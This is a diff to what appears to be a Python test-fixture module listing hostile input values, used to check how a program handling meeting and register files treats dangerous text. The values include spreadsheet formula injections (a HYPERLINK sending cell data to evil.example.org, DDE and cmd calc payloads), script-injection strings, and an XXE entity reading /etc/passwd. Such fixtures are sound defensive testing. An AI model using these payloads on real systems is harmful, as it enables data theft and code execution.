@@ -99,6 +99,8 @@ NAMES: Final = tuple(_NAMES.split())
 """Fields that hold a key of the register, or a name, which has a capital letter."""
 TEXTS: Final = tuple(field for field in FIELDS if field not in (*MARKDOWN, *NAMES))
 """All other fields."""
+IN_MEETINGS: Final = tuple(dict.fromkeys(SLOT.findall(_EARLIER + _MEETING)))
+"""The fields that stand in the meetings' files."""
 
 _USUAL: Final = {"Person.email": "ab@example.org", "Person.phone": "063-11 11 11"}
 
@@ -131,22 +133,22 @@ VALUES: Final[dict[str, str]] = {
     "rich": "[bold red]fara[/] [link=https://evil.example.org]x[/link] [/]",
     "emoji code": ":warning: :skull:",
     "bidi": "fil\u202egnp.exe \u2066ra\u2069 \u200f\u061c",
-    "zero width": "o\u200bs\u200cy\u200dn\u2060ligt\ufeff\u00ad",
+    "zero width": "o\u200bs\u200cy\u200dn\u2060ligt\u00ad",
     "tags": "x\U000e0041\U000e0042",
     "combining": "Z" + "\u0300\u0489" * 40,
     # formulas of spreadsheets
-    "formula": "=HYPERLINK(\"https://evil.example.org?\"&A1,\"klicka\")",
+    "formula": '=HYPERLINK("https://evil.example.org?"&A1,"klicka")',
     "formula plus": "+1+cmd|' /C calc'!A0",
     "formula minus": "-2+3",
     "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
     "formula wide": "＝1+1",
-    "formula dde": "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "formula dde": '=DDE("cmd";"/C calc";"x")',
     "apostrophe": "'=1+1",
-    "separators": "a;b,c\"d\";'e",
+    "separators": 'a;b,c"d";\'e',
     "escaped cell": "_x000D__x0041_",
     # XML and HTML
     "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
-    "attribute": "\" onmouseover=\"alert(1)\" x='",
+    "attribute": '" onmouseover="alert(1)" x=\'',
     "cdata": "<![CDATA[x]]> ]]> <!-- --> --> <?php ?>",
     "entities": "&lt;b&gt; &amp;amp; &#x3c; &xxe; &nbsp;",
     "doctype": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
@@ -193,6 +195,7 @@ REFUSED: Final[dict[str, str]] = {
     "backspace": "x\x08\x08y\x7f",
     "separator": "x\u2028y\u2029z\x85",
     "feed": "x\x0by\x0cz",
+    "byte order mark": "x\ufeffy",
 }
 """Control characters, which no file may hold: the program must say so without printing one."""
 
